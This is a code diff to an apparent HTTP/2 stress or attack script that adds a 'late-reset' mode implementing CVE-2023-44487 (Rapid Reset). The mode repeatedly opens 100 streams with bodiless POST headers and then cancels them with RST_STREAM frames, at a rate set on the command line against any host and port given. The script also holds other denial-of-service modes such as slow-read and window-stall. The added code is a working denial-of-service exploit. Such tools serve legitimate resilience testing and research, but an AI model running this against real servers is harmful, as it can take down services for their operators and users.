@@ -321,6 +321,38 @@ def slow_read(address, until, rate):
     return total
 
 
+def late_reset(address, until, rate):
+    """CVE-2023-44487 for whoever stands behind: requests whose bodies never come, reset when they have been passed on."""
+    total = {"connections": 0, "frames": 0, "goaway": 0, "reset": 0, "responses": 0}
+    started = time.monotonic()
+    while time.monotonic() < until and total["connections"] < RECONNECTIONS_MAX:
+        try:
+            client = Client(address)
+            total["connections"] += 1
+        except (OSError, Ended):
+            time.sleep(0.05)
+            continue
+        try:
+            client.read(0.2)
+            while time.monotonic() < until:
+                streams = [client.stream() for _ in range(100)]
+                lines = request_headers("/late", "POST")
+                client.send(b"".join(client.headers(stream, lines, end_stream=False) for stream in streams))
+                client.read(0.02)
+                code = h2.errors.ErrorCodes.CANCEL
+                client.send(b"".join(frames.RstStreamFrame(stream, error_code=code).serialize() for stream in streams))
+                client.read()
+                total["frames"] += 200
+                time.sleep(max(0, total["frames"] / rate - (time.monotonic() - started)))
+        except Ended:
+            pass
+        finally:
+            for name in ("goaway", "reset", "responses"):
+                total[name] += client.seen[name]
+            client.close()
+    return total
+
+
 def idle(address, until, rate):
     """1,000 connections that say hello and nothing more."""
     total = {"connections": 0, "frames": 0, "goaway": 0, "reset": 0, "responses": 0}
@@ -344,7 +376,7 @@ def main():
     kind, host, port, seconds, rate = sys.argv[1:]
     address = (host, int(port))
     until = time.monotonic() + float(seconds)
-    others = {"window-stall": window_stall, "slow-read": slow_read, "idle": idle}
+    others = {"window-stall": window_stall, "slow-read": slow_read, "late-reset": late_reset, "idle": idle}
     if kind in others:
         total = others[kind](address, until, float(rate))
     else:
